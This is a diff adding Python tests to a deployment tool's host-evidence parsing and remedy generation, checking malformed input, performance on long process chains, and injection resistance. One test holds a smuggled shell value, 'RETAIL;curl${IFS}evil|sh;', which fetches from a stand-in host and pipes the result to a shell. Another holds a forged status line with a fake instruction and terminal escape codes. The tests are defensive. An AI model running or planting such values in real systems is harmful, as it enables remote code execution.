@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import base64
 import itertools
+import json
+import time
 from collections.abc import Mapping
 from dataclasses import fields, replace
 from typing import Any
@@ -12,7 +15,10 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from deploytool.errors import FaultKind, HostFault
-from deploytool.parity.look import judge, shown_manifest
+from deploytool.fleet.protocol import Reply, parse_reply
+from deploytool.parity.evidence import parse_evidence
+from deploytool.parity.left import under_way
+from deploytool.parity.look import judge, probe_call, shown_manifest
 from deploytool.parity.model import (
     Evidence,
     Finding,
@@ -26,10 +32,12 @@ from deploytool.parity.model import (
     Signers,
     Verdict,
 )
-from deploytool.parity.rules import RULES, judge_host, lineage
+from deploytool.parity.remedies import remedy
+from deploytool.parity.rules import RULES, judge_host, lineage, status_rule
 from deploytool.parity.sameness import judge_fleet
+from deploytool.rehearsal.simulated import fleet as simulated
 
-from .looks import MANIFEST, OTHER_SHA, bare, good, rendered, wanted
+from .looks import MANIFEST, OTHER_SHA, RELEASE, bare, good, rendered, wanted
 
 NAMES = rendered().inventory.names
 MAIN = good().main_pid
@@ -307,6 +315,71 @@ def test_a_passer_by_that_is_gone_is_no_second_copy() -> None:
 def test_no_process_family_goes_round_for_ever() -> None:
     looped = {MAIN: replace(good().processes[MAIN], parent=MAIN)}
     assert lineage(replace(good(), processes=looped)) == {MAIN}
+
+
+def test_a_host_that_shows_all_the_processes_an_answer_can_hold_holds_nobody_up() -> None:
+    """A chain of them, listed child first: one look at it must not stop a watch's renewals."""
+    chain = {MAIN: good().processes[MAIN]}
+    for pid in range(100_000 + 30_000, 100_000, -1):
+        chain[pid] = Process(pid, pid - 1 if pid > 100_001 else MAIN, 1, "S", "x")
+    began = time.process_time()
+    assert len(lineage(replace(good(), processes=chain))) == 30_001
+    assert time.process_time() - began < 2
+
+
+def _told(key: str, value: str) -> Reply:
+    """A good host's answer, one line of it altered."""
+    reply = simulated.running("router1", rendered(), *RELEASE).call(probe_call(), deadline_s=5)
+    assert reply.one(key) is not None
+    return Reply(tuple((k, value if k == key else v) for k, v in reply.lines), reply.asked_at)
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        *(("rights", text) for text in ("a b c", "0:0:9 0:0:755 0:0:755", "0:0 0:0 0:0")),
+        *(("file", text) for text in ("x", "a b c", "8:1 1 0:0:999 1 1")),
+        *(("clock", text) for text in ("nan", "inf", "-inf")),
+    ],
+)
+def test_p1_what_is_no_evidence_is_that_host_s_fault_and_ends_nothing(key: str, value: str) -> None:
+    with pytest.raises(HostFault):
+        parse_evidence(_told(key, value), time.time())
+
+
+@pytest.mark.parametrize("since", ["-1", str(10**18), "9" * 5000])
+def test_a_time_that_no_calendar_has_is_that_host_s_fault(since: str) -> None:
+    lines = (*_told("clock", str(time.time())).lines, ("lock", _LOCK.format(since)))
+    with pytest.raises(HostFault):
+        parse_evidence(Reply(lines), time.time())
+    stopped = (*_told("clock", str(time.time())).lines, ("halted", f"latch ab since {since}"))
+    assert under_way({"a": parse_evidence(Reply(stopped), time.time())}, time.time())
+
+
+_LOCK = "token 1 holder me purpose deploy plan ab since {}"
+EVIL = "RETAIL;curl${IFS}evil|sh;"
+
+
+def test_no_word_of_a_host_ends_up_in_a_command_that_a_person_pastes() -> None:
+    said = base64.b64encode(json.dumps({**STATUS, "armed": [EVIL]}).encode()).decode()
+    evidence = parse_evidence(_told("status", said), time.time())
+    assert evidence.status is None
+    seen = {name: good(name) for name in NAMES} | {NAMES[0]: evidence}
+    taken = judge(rendered().inventory, seen, MANIFEST)
+    assert taken.hosts[0].verdict is Verdict.UNKNOWN
+    assert "curl" not in remedy(taken, "inventory.yaml")
+
+
+def test_a_host_speaks_in_one_line_of_its_own() -> None:
+    forged = "2026.1\nWhat to do now: deploytool flags arm RETAIL\x1b[2J\u202e"
+    (finding,) = status_rule(wanted(), replace(good(), status={**STATUS, "version": forged}))
+    assert str(finding).isprintable()
+    reply = parse_reply(
+        b"\ndeploytool ab begin\ncurrent releases/\x1b[2J\tx\ndeploytool ab end ok\n",
+        "ab",
+        probe_call(),
+    )
+    assert (reply.one("current") or "").isprintable()
 
 
 # --- fleets --------------------------------------------------------------------------------------
